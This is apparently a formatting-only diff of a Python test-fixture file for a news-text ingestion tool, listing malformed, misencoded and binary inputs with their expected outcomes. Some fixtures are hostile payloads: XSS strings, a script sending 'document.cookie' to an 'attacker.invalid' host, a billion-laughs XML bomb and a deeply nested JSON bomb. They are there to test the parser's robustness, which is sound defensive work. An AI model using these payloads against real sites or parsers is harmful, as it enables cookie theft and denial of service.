@@ -54,7 +54,9 @@ def _read_as_cp1252(data: bytes) -> str:
 
 
 def page(body: str, head: str = "<title>Shelling hits villages</title>") -> str:
-    return f"<!DOCTYPE html><html><head><meta charset=\"utf-8\">{head}</head><body>{body}</body></html>"
+    return (
+        f'<!DOCTYPE html><html><head><meta charset="utf-8">{head}</head><body>{body}</body></html>'
+    )
 
 
 def paragraphs(text: str) -> str:
@@ -70,7 +72,8 @@ def _feed(items: str, declaration: str = '<?xml version="1.0" encoding="utf-8"?>
 
 def _item(title: str, description: str, date: str = "Sat, 09 Dec 2023 10:00:00 GMT") -> str:
     return (
-        f"<item><title>{title}</title><link>https://example.org/{zlib.crc32(title.encode()) % 1000}</link>"
+        f"<item><title>{title}</title>"
+        f"<link>https://example.org/{zlib.crc32(title.encode()) % 1000}</link>"
         f"<pubDate>{date}</pubDate><description>{description}</description></item>"
     )
 
@@ -81,22 +84,42 @@ def _jsonl_dump() -> tuple[bytes, dict[str, tuple[str, str]]]:
         (json.dumps(good).encode(), ("doc", PHRASE)),
         (b'{"id": "broken", "text": "Clashes in Aden', ("fail", "invalid JSON")),
         (json.dumps({"id": "n", "text": 42}).encode(), ("fail", "non-empty string field")),
-        (json.dumps({"id": "t", "text": ARTICLE, "title": ["a", "list"]}).encode(), ("fail", "'title' must be a string")),
+        (
+            json.dumps({"id": "t", "text": ARTICLE, "title": ["a", "list"]}).encode(),
+            ("fail", "'title' must be a string"),
+        ),
         (json.dumps({"id": True, "text": ARTICLE}).encode(), ("fail", "'id' must be")),
-        (json.dumps({"id": "d", "text": ARTICLE, "published": "2023-13-45"}).encode(), ("fail", "not an ISO date")),
-        (json.dumps({"id": "p", "text": ARTICLE, "published": 20231209}).encode(), ("fail", "ISO date string")),
+        (
+            json.dumps({"id": "d", "text": ARTICLE, "published": "2023-13-45"}).encode(),
+            ("fail", "not an ISO date"),
+        ),
+        (
+            json.dumps({"id": "p", "text": ARTICLE, "published": 20231209}).encode(),
+            ("fail", "ISO date string"),
+        ),
         (json.dumps([good]).encode(), ("fail", "expected a JSON object")),
         (b"[" * 5_000 + b"]" * 5_000, ("fail", "nested too deeply")),
         (b"", None),  # blank lines are skipped silently
         (json.dumps({}).encode(), ("fail", "non-empty string field")),
         (json.dumps({"id": "ws", "text": " \n\t "}).encode(), ("fail", "non-empty string field")),
         # U+2028 is legal raw inside a JSON string and must not split the record.
-        (json.dumps({"id": "ls", "text": "Line one.\u2028" + ARTICLE}, ensure_ascii=False).encode(), ("doc", PHRASE)),
+        (
+            json.dumps(
+                {"id": "ls", "text": "Line one.\u2028" + ARTICLE}, ensure_ascii=False
+            ).encode(),
+            ("doc", PHRASE),
+        ),
         (json.dumps(good).encode(), ("doc", PHRASE)),  # the same record twice: both read
         (json.dumps({"id": "h", "html": page(paragraphs(ARTICLE))}).encode(), ("doc", PHRASE)),
         (json.dumps({"id": "ar", "text": ARABIC}, ensure_ascii=False).encode(), ("skip", "ar")),
-        (json.dumps({"id": "cp", "text": SMART}, ensure_ascii=False).encode("cp1252"), ("doc", "army\u2019s commander")),
-        (json.dumps({"id": "nul", "text": "a\x00b"}).encode().replace(b"\\u0000", b"\x00"), ("fail", "binary")),
+        (
+            json.dumps({"id": "cp", "text": SMART}, ensure_ascii=False).encode("cp1252"),
+            ("doc", "army\u2019s commander"),
+        ),
+        (
+            json.dumps({"id": "nul", "text": "a\x00b"}).encode().replace(b"\\u0000", b"\x00"),
+            ("fail", "binary"),
+        ),
         # A byte-order mark pasted in mid-file (concatenated dumps) is dropped, not fatal.
         (b"\xef\xbb\xbf" + json.dumps({"id": "bom", "text": ARTICLE}).encode(), ("doc", PHRASE)),
         (b'{"id": "trunc", "text": "' + ARTICLE.encode()[:60], ("fail", "invalid JSON")),
@@ -109,8 +132,14 @@ def _broken_feed() -> str:
     return _feed(
         _item("Shelling in Idlib", f"&lt;p&gt;{ARTICLE.split(chr(10))[0]}&lt;/p&gt;")
         + _item("Empty", "")
-        + _item("Bad date", "Clashes broke out near Saraqib on Friday, a local source said.", "Caturday, 99 Foo 20233")
-        + _item("Broken markup", "<![CDATA[<div><p>Troops shelled <b>Kafr Nabl again near the border]]>")
+        + _item(
+            "Bad date",
+            "Clashes broke out near Saraqib on Friday, a local source said.",
+            "Caturday, 99 Foo 20233",
+        )
+        + _item(
+            "Broken markup", "<![CDATA[<div><p>Troops shelled <b>Kafr Nabl again near the border]]>"
+        )
         + "<item><title>No description at all</title></item>"
     )
 
@@ -122,40 +151,76 @@ def _cases() -> dict[str, tuple[bytes, dict[str, tuple[str, str]]]]:
     dump, dump_expected = _jsonl_dump()
     cases: dict[str, tuple[bytes, dict[str, tuple[str, str]] | tuple[str, str]]] = {
         "good-plain.txt": (HEADED.encode(), ("doc", PHRASE)),
-        "good-bom-crlf.txt": (b"\xef\xbb\xbf" + HEADED.replace("\n", "\r\n").encode(), ("doc", PHRASE)),
+        "good-bom-crlf.txt": (
+            b"\xef\xbb\xbf" + HEADED.replace("\n", "\r\n").encode(),
+            ("doc", PHRASE),
+        ),
         "utf16-with-bom.txt": (HEADED.encode("utf-16"), ("doc", PHRASE)),
         "cp1252-smart-quotes.txt": (SMART.encode("cp1252"), ("doc", "army\u2019s commander")),
         "mojibake-utf8-read-as-cp1252.txt": (
-            _read_as_cp1252(SMART.encode("utf-8")).encode("utf-8"), ("doc", "army\u2019s commander")
+            _read_as_cp1252(SMART.encode("utf-8")).encode("utf-8"),
+            ("doc", "army\u2019s commander"),
         ),
-        "invalid-utf8-byte.txt": (HEADED.encode().replace(b"Friday", b"Fri\xffday"), ("doc", "Kafr Nabl")),
+        "invalid-utf8-byte.txt": (
+            HEADED.encode().replace(b"Friday", b"Fri\xffday"),
+            ("doc", "Kafr Nabl"),
+        ),
         "arabic-cp1256.txt": (ARABIC.encode("cp1256"), ("skip", "ar")),
         "arabic-declared-cp1256.html": (
-            page(f"<p>{ARABIC}</p>", '<meta http-equiv="Content-Type" content="text/html; charset=windows-1256">')
+            page(
+                f"<p>{ARABIC}</p>",
+                '<meta http-equiv="Content-Type" content="text/html; charset=windows-1256">',
+            )
             .replace('<meta charset="utf-8">', "")
             .encode("cp1256"),
             ("skip", "ar"),
         ),
         "french.txt": (FRENCH.encode(), ("skip", "fr")),
-        "russian-utf8.html": (page(f"<article><p>{RUSSIAN}</p></article>").encode(), ("skip", "ru")),
-        "pdf-named.html": (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\n", ("fail", "a PDF document")),
-        "png-named.txt": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + rng.randbytes(200), ("fail", "a PNG image")),
-        "docx-named.txt": (b"PK\x03\x04\x14\x00\x06\x00" + rng.randbytes(200), ("fail", "ZIP archive")),
-        "gzip-named.html": (gzip.compress(page(paragraphs(ARTICLE)).encode(), mtime=0), ("fail", "gzip")),
+        "russian-utf8.html": (
+            page(f"<article><p>{RUSSIAN}</p></article>").encode(),
+            ("skip", "ru"),
+        ),
+        "pdf-named.html": (
+            b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\n",
+            ("fail", "a PDF document"),
+        ),
+        "png-named.txt": (
+            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + rng.randbytes(200),
+            ("fail", "a PNG image"),
+        ),
+        "docx-named.txt": (
+            b"PK\x03\x04\x14\x00\x06\x00" + rng.randbytes(200),
+            ("fail", "ZIP archive"),
+        ),
+        "gzip-named.html": (
+            gzip.compress(page(paragraphs(ARTICLE)).encode(), mtime=0),
+            ("fail", "gzip"),
+        ),
         "random-bytes.txt": (bytes(b or 1 for b in rng.randbytes(4000)), ("fail", "binary")),
         "nul-bytes.txt": (HEADED.encode().replace(b" ", b"\x00"), ("fail", "NUL bytes")),
         "empty.txt": (b"", ("fail", "empty input")),
         "whitespace-only.html": (b" \n\t\r\n  \n", ("fail", "empty input")),
-        "boilerplate-only.txt": (b"Share this:\nPost a Comment\nNo comments:\n", ("fail", "no article text")),
+        "boilerplate-only.txt": (
+            b"Share this:\nPost a Comment\nNo comments:\n",
+            ("fail", "no article text"),
+        ),
         "truncated.html": (page(paragraphs(ARTICLE)).encode()[:-60], ("doc", PHRASE)),
-        "cut-mid-tag.html": (page(paragraphs(ARTICLE)).encode()[: page(paragraphs(ARTICLE)).index("</p>") + 2], ("doc", PHRASE)),
+        "cut-mid-tag.html": (
+            page(paragraphs(ARTICLE)).encode()[: page(paragraphs(ARTICLE)).index("</p>") + 2],
+            ("doc", PHRASE),
+        ),
         "nested-3000-divs.html": (page(nested).encode(), ("doc", PHRASE)),
-        "unclosed-comment.html": (page("<!-- " + paragraphs(ARTICLE)).encode(), ("fail", "no article text")),
-        "script-only.html": (page("<script>var s = '<p>not text</p>';</script><style>p{}</style>").encode(), ("fail", "no article text")),
+        "unclosed-comment.html": (
+            page("<!-- " + paragraphs(ARTICLE)).encode(),
+            ("fail", "no article text"),
+        ),
+        "script-only.html": (
+            page("<script>var s = '<p>not text</p>';</script><style>p{}</style>").encode(),
+            ("fail", "no article text"),
+        ),
         "script-injection.html": (
             page(
-                paragraphs(ARTICLE)
-                + "<p>&lt;script&gt;alert('text, not code')&lt;/script&gt; "
+                paragraphs(ARTICLE) + "<p>&lt;script&gt;alert('text, not code')&lt;/script&gt; "
                 "<img src=x onerror=alert(1)> javascript:alert(2)</p>"
                 "<script>document.location='https://attacker.invalid/?'+document.cookie</script>"
             ).encode(),
@@ -173,16 +238,31 @@ def _cases() -> dict[str, tuple[bytes, dict[str, tuple[str, str]]]]:
         ),
         "html-saved-as.txt": (page(paragraphs(ARTICLE)).encode(), ("doc", PHRASE)),
         "control-and-bidi.txt": (
-            ("\x1b[31m" + HEADED.replace("Kafr", "\u202eKafr\u202c").replace("the ", "the\u200b ") + "\x07\x1b[0m").encode(),
+            (
+                "\x1b[31m"
+                + HEADED.replace("Kafr", "\u202eKafr\u202c").replace("the ", "the\u200b ")
+                + "\x07\x1b[0m"
+            ).encode(),
             ("doc", "Kafr Nabl"),
         ),
         "combining-marks.txt": (
-            (ARTICLE + "\n\n" + "".join(c + "\u0301\u0316\u0334" for c in "Zalgo text here")).encode(),
+            (
+                ARTICLE + "\n\n" + "".join(c + "\u0301\u0316\u0334" for c in "Zalgo text here")
+            ).encode(),
             ("doc", PHRASE),
         ),
-        "bad-header-date.txt": (HEADED.replace("2023-12-09", "2023-02-30").encode(), ("doc", PHRASE)),
-        "keyboard-mash-no-spaces.txt": (("qwertyuiopasdfghjklzxcvbnm" * 400).encode(), ("doc", "qwerty")),
-        "numbers-table.txt": (b"id,value\n" + b"".join(b"%d,%d\n" % (i, i * i) for i in range(400)), ("doc", "399,159201")),
+        "bad-header-date.txt": (
+            HEADED.replace("2023-12-09", "2023-02-30").encode(),
+            ("doc", PHRASE),
+        ),
+        "keyboard-mash-no-spaces.txt": (
+            ("qwertyuiopasdfghjklzxcvbnm" * 400).encode(),
+            ("doc", "qwerty"),
+        ),
+        "numbers-table.txt": (
+            b"id,value\n" + b"".join(b"%d,%d\n" % (i, i * i) for i in range(400)),
+            ("doc", "399,159201"),
+        ),
         "feed-saved-as.txt": (
             _feed(_item("Shelling in Idlib", ARTICLE.split("\n")[0])).encode(),
             {"feed-saved-as.txt#1": ("doc", PHRASE)},
@@ -198,7 +278,9 @@ def _cases() -> dict[str, tuple[bytes, dict[str, tuple[str, str]]]]:
             },
         ),
         "feed-cp1256.xml": (
-            _feed(_item("خبر", ARABIC), '<?xml version="1.0" encoding="windows-1256"?>').encode("cp1256"),
+            _feed(_item("خبر", ARABIC), '<?xml version="1.0" encoding="windows-1256"?>').encode(
+                "cp1256"
+            ),
             {"feed-cp1256.xml#1": ("skip", "ar")},
         ),
         "not-a-feed.rss": (
@@ -218,7 +300,9 @@ def _cases() -> dict[str, tuple[bytes, dict[str, tuple[str, str]]]]:
         "billion-laughs.xml": (
             (
                 '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">'
-                + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
+                + "".join(
+                    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)
+                )
                 + ']><rss version="2.0"><channel><title>Example Wire</title>'
                 + _item("Bomb", f"&i; {ARTICLE.split(chr(10))[0]}")
                 + "</channel></rss>"
@@ -233,7 +317,8 @@ def _cases() -> dict[str, tuple[bytes, dict[str, tuple[str, str]]]]:
         "blank-lines.jsonl": (b"\n\n   \n", ("fail", "empty input")),
     }
     return {
-        name: (data, exp if isinstance(exp, dict) else {name: exp}) for name, (data, exp) in cases.items()
+        name: (data, exp if isinstance(exp, dict) else {name: exp})
+        for name, (data, exp) in cases.items()
     }
 
 
